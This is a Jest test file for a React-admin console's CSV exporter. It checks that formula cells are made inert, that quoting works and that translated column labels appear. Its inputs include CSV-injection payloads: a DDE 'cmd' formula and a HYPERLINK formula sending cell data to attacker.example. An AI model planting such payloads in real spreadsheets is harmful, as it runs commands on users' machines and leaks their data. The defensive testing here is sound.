import { inertCell } from '../../../api/src/shared/sheet-cells';
import { translatedExporter } from './exporter';

// the file handed to the browser, and labels as their keys' last part: only the cells are under test here
const downloads: Array<{ text: string; name: string }> = [];
jest.mock('react-admin', () => ({ downloadCSV: (text: string, name: string) => downloads.push({ text, name }) }));
// two of the meetings' columns share one label here, and the list has a name in the user's language
const LABELS: Record<string, string> = { 'resources.fivePartyMeetings.name': '五方会谈', 'resources.fivePartyMeetings.fields.issuesRaised': '问题', 'resources.fivePartyMeetings.fields.issuesResolved': '问题' };
jest.mock('../i18n/i18nProvider', () => ({
  i18nProvider: { translate: (key: string) => LABELS[key] ?? (key.startsWith('resources.') ? key.split('.').pop() : key) },
}));

/** The exporter's file as rows of raw CSV fields (no field below holds a comma inside quotes). */
function exported(resource: string, fields: string[], records: object[]): { text: string; lines: string[] } {
  downloads.length = 0;
  void translatedExporter(resource, fields)(records as any, async () => ({}), {} as any, resource);
  expect(downloads).toHaveLength(1);
  const { text } = downloads[0];
  return { text, lines: text.replace(/^\uFEFF/, '').split('\r\n') };
}

describe('the console CSV export', () => {
  it('makes formulas inert by the API rule, in free text and names alike', () => {
    const { lines } = exported('fivePartyMeetings', ['id', 'summary'], [
      { id: 1, summary: "=1+1+cmd|' /C calc'!A0" },
      { id: 2, summary: '+SUM(A1)' },
      { id: 3, summary: '@x' },
      { id: 4, summary: '-2+3' },
    ]);
    expect(lines.slice(0, 5)).toEqual(['id,summary', "1,'=1+1+cmd|' /C calc'!A0", "2,'+SUM(A1)", "3,'@x", "4,'-2+3"]);
  });

  it('quotes a HYPERLINK formula with quotes and commas after making it inert', () => {
    const name = '=HYPERLINK("http://attacker.example/?d="&A1,"点击查看")';
    const { lines } = exported('partyOrganisations', ['id', 'name'], [{ id: 7, name }]);
    expect(lines[1]).toBe(`7,"${inertCell(name).replace(/"/g, '""')}"`);
    expect(lines[1].startsWith('7,"\'=HYPERLINK(')).toBe(true);
  });

  it('quotes cells holding ; or a tab, and leading tabs and carriage returns are made inert', () => {
    const { text } = exported('users', ['username', 'displayName'], [
      { username: 'a', displayName: 'x;=1+1' },
      { username: 'b', displayName: 'x\ty' },
      { username: 'c', displayName: '\t=1+1' },
      { username: 'd', displayName: '\r=1+1' },
    ]);
    expect(text).toBe('\uFEFFusername,displayName\r\na,"x;=1+1"\r\nb,"x\ty"\r\nc,"\'\t=1+1"\r\nd,"\'\r=1+1"\r\n');
  });

  it('keeps amounts and counts as numbers, negative ones included', () => {
    const { lines } = exported('repairFunds', ['id', 'balance', 'estateName'], [
      { id: 1, balance: '-12.50', estateName: '-沈园' },
      { id: 2, balance: '345.67', estateName: null },
      { id: 3, balance: -5, estateName: undefined },
    ]);
    expect(lines.slice(0, 4)).toEqual(['id,balance,estateName', "1,-12.50,'-沈园", '2,345.67,', '3,-5,']);
  });

  it('keeps each column its own cells even where two columns share a label, and names the file as the list is named', () => {
    const { lines } = exported('fivePartyMeetings', ['id', 'issuesRaised', 'issuesResolved'], [{ id: 1, issuesRaised: 3, issuesResolved: 1 }]);
    expect(lines.slice(0, 2)).toEqual(['id,问题,问题', '1,3,1']);
    expect(downloads[0].name).toBe('五方会谈');
  });
});
